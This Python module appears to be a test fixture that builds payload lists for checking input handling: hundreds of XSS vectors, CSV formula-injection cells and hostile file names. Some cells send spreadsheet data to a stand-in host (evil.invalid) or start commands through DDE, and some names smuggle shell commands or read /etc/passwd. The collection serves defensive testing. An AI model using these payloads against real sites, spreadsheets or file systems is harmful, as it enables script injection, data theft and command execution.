"""Texts that mean harm: what browsers run, spreadsheets compute, paths lead out by, and encodings stumble over.

Our own collection of the known classes: OWASP's cheat sheets on cross-site scripting and CSV injection, CWE-22, UAX 9.
"""

from collections.abc import Iterator

RUN = "window.hit=1"
"""What a page must never do; ``alert`` and addresses of ``EVIL`` neither."""
EVIL = "https://evil.invalid"


def _handlers() -> Iterator[str]:
    """Elements with a handler that runs by itself, or when somebody points at or types into them."""
    at_once = {
        "img": "src=x onerror", "image": "src=x onerror", "svg": "onload", "body": "onload", "iframe": "onload",
        "video": "src=x onerror", "audio": "src=x onerror", "object": "data=x onerror", "embed": "src=x onload",
        "input": "autofocus onfocus", "select": "autofocus onfocus", "textarea": "autofocus onfocus",
        "button": "autofocus onfocus", "keygen": "autofocus onfocus", "details": "open ontoggle",
        "marquee": "onstart", "style": "onload", "link": "rel=stylesheet href=data:, onload", "script": "src=x onerror",
        "frameset": "onload", "a": "autofocus tabindex=0 onfocus", "x": "autofocus tabindex=1 onfocus",
        "div": "contenteditable autofocus onfocus", "dialog": "open onclose", "track": "src=x onerror",
    }  # fmt: skip
    yield from (f"<{tag} {rest}={RUN}>" for tag, rest in at_once.items())
    pointed = "click mouseover mouseenter pointerover pointerenter wheel keydown copy paste drag scrollend".split()
    yield from (f"<p tabindex=0 on{event}={RUN}>x</p>" for event in pointed)
    moved = "animationstart animationend transitionend transitionrun".split()
    yield from (f"<b style='animation:spin 1s;transition:1s' on{event}={RUN}>x</b>" for event in moved)


def _breakouts() -> Iterator[str]:
    """Ends of what a text may stand in, each with what then runs."""
    ends = ('"', "'", "`", ">", '">', "'>", "-->", "--!>", "]]>", "*/", "</title>", "</style>", "</script>",
        "</textarea>",
            "</noscript>", "</template>", "</iframe>", "</xmp>", "</select>", "\\\"", "%22%3E",
            "&quot;&gt;")  # fmt: skip
    for end in ends:
        yield f"{end}<script>{RUN}</script>"
        yield f"{end}<img src=x onerror={RUN}>"
        yield f"{end} onmouseover={RUN} onfocus={RUN} autofocus x="


def _addresses() -> Iterator[str]:
    """Addresses that run something where a page links to them."""
    js = f"javascript:{RUN}"
    yield from (js, js.upper(), js.title(), f" {js}", f"\t{js}", f"\x01{js}", f"java\tscript:{RUN}",
        f"java\nscript:{RUN}",
                f"java\rscript:{RUN}", f"javascript\t:{RUN}", f"java&#9;script:{RUN}", f"java&Tab;script:{RUN}",
                f"javascript&colon;{RUN}", f"&#106;avascript:{RUN}", f"&#x6a;avascript:{RUN}",
                "javascript:%77indow.hit=1",
                f"javascript://https://example.org/%0a{RUN}", f"javascript:https://example.org;{RUN}",
                f"jav\0ascript:{RUN}",
                f"\ufeff{js}", f"\u00a0{js}", f"\u2028{js}", f"feed:{js}", f"view-source:{js}", f"vbscript:{RUN}",
                f"livescript:{RUN}", f"data:text/html,<script>{RUN}</script>", "data:text/html;base64,PHNjcmlwdD4=",
                f"data:image/svg+xml,<svg onload={RUN}>", f"blob:{EVIL}/x", f"filesystem:{EVIL}/x", "about:blank",
                "file:///etc/passwd", f"//{EVIL[8:]}/x", f"\\\\{EVIL[8:]}\\x",
                f"https:{EVIL[6:]}\" onclick={RUN} x=\"")  # fmt: skip
    yield from (
        f"<a href='{one}'>x</a>" for one in (js, f"java&#10;script:{RUN}", f"data:text/html,<script>{RUN}</script>")
    )
    yield from (f"<{tag}='{js}'>" for tag in ("iframe src", "embed src", "object data", "form action", "img src"))
    yield f"<form><button formaction='{js}' autofocus onfocus={RUN}>x</button></form>"
    yield f"[x]({js})"
    yield f"<{js}>"


def _foreign() -> Iterator[str]:
    """SVG and MathML, which parse by other rules."""
    yield from (
        f"<svg><script>{RUN}</script></svg>",
        f"<svg><script href='data:text/javascript,{RUN}'/></svg>",
        f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
        f"<svg><set onbegin={RUN} attributeName=x>",
        f"<svg><a xlink:href='javascript:{RUN}'><text x=9 y=9>x</text></a></svg>",
        f"<svg><a><animate attributeName=href values='javascript:{RUN}'/><text x=9 y=9>x</text></a></svg>",
        f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>",
        f"<svg><image href=x onerror={RUN}></svg>",
        f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}/>#x'></svg>",
        f"<svg><style><img src=x onerror={RUN}></style></svg>",
        f"<svg><title><img src=x onerror={RUN}></title></svg>",
        f"<svg><desc><img src=x onerror={RUN}></desc></svg>",
        f"<svg/onload={RUN}>",
        f"<svg\nonload\n=\n{RUN}>",
        f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
        f"<math href='javascript:{RUN}'>x</math>",
        f"<math><maction actiontype='statusline#x' xlink:href='javascript:{RUN}'>x</maction></math>",
        f"<math><annotation-xml encoding='text/html'><img src=x onerror={RUN}></annotation-xml></math>",
    )


def _mutated() -> Iterator[str]:
    """What a second parser reads otherwise than the first: mutations, broken tags, comments, CDATA."""
    yield from (
        f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
        f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
        f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
        f"<template><img src=x onerror={RUN}></template>",
        f"<xmp><p title='</xmp><img src=x onerror={RUN}>'></xmp>",
        f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
        f"<p id='`onmouseover={RUN}`'>x</p>",
        f"<![CDATA[<img src=x onerror={RUN}>]]>",
        f"<svg><![CDATA[><img src=x onerror={RUN}>]]></svg>",
        f"<!--><img src=x onerror={RUN}>-->",
        f"<!-- --!><img src=x onerror={RUN}>",
        f"<?xml version='1.0'?><img src=x onerror={RUN}>",
        f"<? foo='?><img src=x onerror={RUN}>'>",
        f"<%= x %><img src=x onerror={RUN}>",
        f"<scr<script>ipt>{RUN}</scr</script>ipt>",
        f"<script\x20type='text/javascript'>{RUN};</script\x20>",
        f"<script/x>{RUN}</script/y>",
        f"<SCRIPT>{RUN}</ScRiPt>",
        f"<script>{RUN}",
        f"<<script>{RUN}//<</script>",
        f"<img/src='x'/onerror={RUN}>",
        f"<img src=x onerror\x0c={RUN}>",
        f"<img \x00src=x onerror={RUN}>",
        f"<scr\x00ipt>{RUN}</scr\x00ipt>",
        f"<img src=x:x onerror={RUN}//",
        f"<img '\"><script>{RUN}</script>'>",
        f"<p/onclick={RUN}//>x",
        "<script>eval('window.hit'+'=1')</script>",
        f"<script>setTimeout`{RUN}`</script>",
        f"<script type=module>{RUN}</script>",
        f"<script type=importmap>{{\"imports\":{{\"x\":\"{EVIL}/x\"}}}}</script>",
        "<script>alert(1)</script>",
        "<img src=x onerror=prompt(1)>",
        "<svg onload=confirm(1)>",
    )  # fmt: skip


def _asking() -> Iterator[str]:
    """What asks another host, leaves the page, or changes what its addresses mean."""
    yield from (
        f"<meta http-equiv=refresh content='0;url={EVIL}/'>",
        f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
        "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline' *\">",
        f"<base href={EVIL}/>",
        "<base target=x>",
        f"<link rel=stylesheet href={EVIL}/x.css>",
        f"<link rel=preload as=script href={EVIL}/x.js>",
        f"<link rel=dns-prefetch href=//{EVIL[8:]}>",
        f"<link rel=import href={EVIL}/x>",
        f"<style>@import '{EVIL}/x.css';</style>",
        f"<style>body{{background:url({EVIL}/x)}}</style>",
        f"<p style=\"background:url('{EVIL}/x')\">x</p>",
        f"<p style='width:expression({RUN})'>x</p>",
        f"<p style='behavior:url({EVIL}/x.htc);-moz-binding:url({EVIL}/x.xml#x)'>x</p>",
        f"<img src={EVIL}/x.png>",
        f"<img srcset='{EVIL}/x.png 1x'>",
        f"<picture><source srcset={EVIL}/x></picture>",
        f"<video poster={EVIL}/x></video>",
        f"<body background={EVIL}/x>",
        f"<table background={EVIL}/x><tr><td>x</table>",
        f"<iframe src={EVIL}/></iframe>",
        f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
        f"<object data={EVIL}/x></object>",
        f"<embed src={EVIL}/x>",
        f"<a href=# ping={EVIL}/>x</a>",
        f"<form action={EVIL}/><input name=x><input type=submit autofocus></form>",
        f"<script src={EVIL}/x.js></script>",
        f"<img src='{EVIL}/?",
        "<img name=getElementById><form name=body><input name=hit id=hit>",
        "<a id=defaultView name=hit href=x:1>",
    )  # fmt: skip


def _templates() -> Iterator[str]:
    """Other languages of templates, and texts in JSON in a script."""
    yield from (
        "{{ 7*7 }}", "{% raw %}{{ x }}", "{# x", "{{ config }}", "{{ self.__init__.__globals__ }}", "${7*7}", "#{7*7}",
        "*{7*7}",
        "<%= 7*7 %>", "@(7*7)", "[[${7*7}]]", f"{{{{constructor.constructor('{RUN}')()}}}}",
        f"<x ng-app>{{{{$eval('{RUN}')}}}}",
        f"<x v-html=\"'<img src=x onerror={RUN}>'\">", "%(x)s {0.__class__} {x!r}", "$(touch /tmp/x) `id`",
        "\\u003cscript\\u003e",
        f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e", f"\u2028{RUN}\u2029", f"';{RUN};//", f"\";{RUN};//", f"\\';{RUN};//",
        f"</script><script>{RUN}</script>", f"<!--<script>{RUN}//", f"<!--<script></script>{RUN}",
        f"\"}}</script><svg onload={RUN}>",
        "__proto__", "constructor", "toString",
    )  # fmt: skip


def _encoded() -> Iterator[str]:
    """The same under other encodings, which something on the way may undo."""
    tag = f"<img src=x onerror={RUN}>"
    escaped = tag.replace("<", "&lt;").replace(">", "&gt;")
    yield escaped
    yield escaped.replace("&", "&amp;")
    yield escaped.replace("&", "&amp;amp;")
    yield "".join(f"&#{ord(one)};" for one in tag)
    yield "".join(f"&#x{ord(one):x};" for one in tag)
    yield "".join(f"&#{ord(one):07}" for one in tag)
    yield "".join(f"%{ord(one):02x}" for one in tag)
    yield "".join(f"\\u{ord(one):04x}" for one in tag)
    yield f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-"
    yield tag.replace("<", "\uff1c").replace(">", "\uff1e")
    yield tag.replace("<", "\u2039").replace("<", "\u2329")
    yield tag.replace("i", "\u0131").replace("s", "\u017f")
    yield f"\u202e{tag}\u202c"
    yield tag.replace("<", "<\u200b")
    yield "\xbcscript\xbe"
    yield f"\x1b]8;;{EVIL}\x07{tag}\x1b[31m"


XSS = tuple(
    dict.fromkeys(
        [*_handlers(), *_breakouts(), *_addresses(), *_foreign(), *_mutated(), *_asking(), *_templates(), *_encoded()]
    )
)
"""Texts that browsers may run, each once."""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
FORMULAS = (
    "=1+1", "=HYPERLINK(\"https://evil.invalid?x=\"&A1,\"x\")", "=cmd|'/C calc'!A0", "+cmd|'/C calc'!A0", "-1+1|cmd",
    "@SUM(1,1)",
    "=WEBSERVICE(\"https://evil.invalid\")", "=IMPORTXML(\"https://evil.invalid\",\"//x\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\xa0=1+1", "\"=1+1", "'=1+1", "\"\"=1+1", "\ufeff=1+1", "\x00=1+1",
    "\u200b=1+1",
    "\u202e=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "%0A=1+1", ";=1+1", ",=1+1", "|=1+1", "x\n=1+1",
    "x\r\n=1+1",
    "x\",=1+1", "x\";=1+1", "x\t=1+1", "=1+1\x00", "=\n1+1", "\x85=1+1", "\u2028=1+1", "\u3000=1+1", "\x1b=1+1",
    "\u2060=1+1",
    "\xad=1+1", "\u180e=1+1", "\ufe66=1", "\ufe62=1", "\ufe63=1", "\ufe6b=1", "\u2212 1", "#NAME?", "{=1+1}",
)  # fmt: skip
"""Cells that a program for spreadsheets may compute, or take for two."""

NAMES = (
    "..", ".", "../..", "../../etc/passwd", "..\\..\\x", "/etc/passwd", "//x", "C:\\x", "C:x", "file:///x", "~",
    "~root", "-rf", "--",
    "a/b", "a\\b", "a\0b", "\0", "a\nb", "a\rb", "a:b", "a|b", "a*b?", "<a>", '"', "'", "`id`", "$HOME", "$(id)",
    "%2e%2e%2f", "..%2f",
    "%00", "..;/", "....//", "\uff0e\uff0e\uff0f", "\u2024\u2024/", "\u2215etc", ".hidden", ".htaccess",
    ".img2fair-records", "lock",
    "index", "index.html", "404", "x.ttl", "x.html", "x.origins.jsonl", "CON", "con", "PRN", "aux", "NUL", "nul.txt",
    "COM1", "LPT9",
    "CONIN$", "x.", "x ", " x", "x..", "x. ", "x" * 300, "\u00fc" * 200, "\U0001f600" * 100, "\u202excod.ttl",
    "a\u202eb", "\u200b",
    "\u00e9", "e\u0301", "E\u0301", "\u00c9", "\u212b", "\u00c5", "A\u030a", "\ufb01", "fi", "\u0130", "i\u0307",
    "\u0131", "I", "i",
    "\u017f", "s", "S", "\u00df", "ss", "SS", "\u1e9e", "LGG", "lgg", "LgG", "Lgg", "a b", "a-b", "a_b", "a.b", "a+b",
    "1", "01", "\u0661",
    "project", "__proto__", "None", "null", "true", "{{ 7*7 }}", "%s", "#", "?", "a#b", "a?b", "a&b", "a=b", "a;b",
    "\u2028", "\x7f",
)  # fmt: skip
"""Ids and labels that would be bad names of files, twins in case and in normal form among them."""
